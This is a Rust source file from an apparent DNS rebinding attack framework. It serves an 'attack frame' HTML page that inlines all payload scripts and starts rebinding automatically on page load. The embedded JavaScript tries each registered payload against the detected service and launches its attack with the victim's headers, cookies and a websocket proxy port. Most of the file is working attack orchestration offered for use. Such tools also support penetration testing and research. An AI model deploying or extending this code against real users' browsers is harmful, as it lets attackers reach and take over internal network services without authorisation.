//! Attack-frame assembly.
//!
//! `/soopayload.html` serves a self-contained page: the inline script is
//! the concatenation of every payload `.js` file under the HTML root,
//! each of which registers itself in the page's `Registry`. The page
//! auto-starts the rebinding flow via `begin('/')` on load.

use std::fs;
use std::io;
use std::path::Path;

use log::info;

/// Marker replaced by the concatenated payload scripts.
const JS_MARKER: &str = "/*__PAYLOAD_JS__*/";

const PAGE_TEMPLATE: &str = r#"<!doctype html>
<html><head><title>Attack Frame</title><script src="payload.js"></script>
<script>
/*__PAYLOAD_JS__*/

function attack(payload, headers, cookie, body, wsproxyport) {
	const titleEl = document.getElementById('title');
	if (payload === 'automatic') {
		(async function loop() {
			for (let payload in Registry) {
				console.log("Trying payload: " + payload + " for frame: " + window.location);
				await Registry[payload].isService(headers, cookie, body)
					.then(response => {
						if (response === true) {
							titleEl.innerText = payload;
							console.log("Payload: " + payload + " has identified a service for frame: " + window.location);
							Registry[payload].attack(headers, cookie, body, wsproxyport);
							return;
						} else {
							console.log("Payload: " + payload + " has rejected a service for frame: " + window.location);
						}
					})
			}
		})();
	} else {
		titleEl.innerText = payload;
		Registry[payload].attack(headers, cookie, body, wsproxyport);
	}
}
</script></head>
<body onload="begin('/')")><h3 id='title'>Rebinding...</h3>
<p><span id='hostname'></span>. <span id='rebindingstatus'>This page is waiting for a DNS update.</span>
<span id='payloadstatus'></span></p>
</body></html>"#;

/// Renders the attack frame with all payload scripts from `payload_dir`
/// inlined.
pub fn render_payload_page(payload_dir: &Path) -> io::Result<String> {
    let js = concatenate_js(payload_dir)?;
    Ok(PAGE_TEMPLATE.replace(JS_MARKER, &js))
}

/// Concatenates every `.js` file below `dir`, walking depth-first in
/// lexical order so payload load order is deterministic.
pub fn concatenate_js(dir: &Path) -> io::Result<String> {
    let mut js = String::new();
    let mut entries: Vec<_> = match fs::read_dir(dir) {
        Ok(read) => read.filter_map(|e| e.ok()).collect(),
        // A missing payload directory just means an empty script block.
        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(js),
        Err(e) => return Err(e),
    };
    entries.sort_by_key(|e| e.file_name());

    for entry in entries {
        let path = entry.path();
        if path.is_dir() {
            js.push_str(&concatenate_js(&path)?);
        } else if path.extension().and_then(|e| e.to_str()) == Some("js") {
            info!("HTTP: concatenating {} ...", path.display());
            js.push_str(&fs::read_to_string(&path)?);
        }
    }
    Ok(js)
}
